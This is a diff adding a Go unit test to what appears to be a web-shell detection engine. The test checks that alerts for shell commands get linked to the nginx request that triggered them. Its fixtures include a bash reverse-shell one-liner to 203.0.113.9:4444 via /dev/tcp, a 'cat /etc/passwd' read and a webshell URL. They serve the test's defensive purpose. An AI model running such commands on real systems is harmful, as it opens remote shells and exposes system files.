@@ -645,3 +645,32 @@ func TestLongShellOutlivesBusyRequests(t *testing.T) {
 		t.Errorf("no updated copy of the shell's alert carries its request (%d derived)", len(derived))
 	}
 }
+
+// A reverse shell's commands run before nginx logs its request: when the
+// request comes, the command's alert gets an updated copy carrying it, and
+// the request lists the shell alone.
+func TestLongShellKidsGetTheRequest(t *testing.T) {
+	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
+	det, err := detector.New(config.Default())
+	if err != nil {
+		t.Fatal(err)
+	}
+	det.ProcessAll(shellDoc(5, 900, 800, "sh -c "+cmd))
+	kid := shellDoc(20, 901, 900, "cat /etc/passwd")
+	det.ProcessAll(kid)
+	if str(kid, "event.kind") != "alert" || str(kid, "webshell.request.url.original") != "" {
+		t.Fatalf("the shell's command: kind %q, request %q; want an alert without a request yet", str(kid, "event.kind"), str(kid, "webshell.request.url.original"))
+	}
+	det.ProcessAll(requestDoc(40, "/other", "")) // the host's time moves on
+	req := requestDoc(66, "/up/x.php?c=cmd", cmd)
+	req["event"].(map[string]any)["module"] = "nginx"
+	_, derived := det.ProcessAll(req)
+	if n := val(req, "webshell.processes.count"); n != 1 {
+		t.Errorf("the request lists %v processes, want the shell alone", n)
+	}
+	if !slices.ContainsFunc(derived, func(d detector.Derived) bool {
+		return str(d.Doc, "process.command_line") == "cat /etc/passwd" && str(d.Doc, "webshell.request.url.original") == "/up/x.php?c=cmd"
+	}) {
+		t.Errorf("no updated copy of the command's alert carries the request (%d derived)", len(derived))
+	}
+}
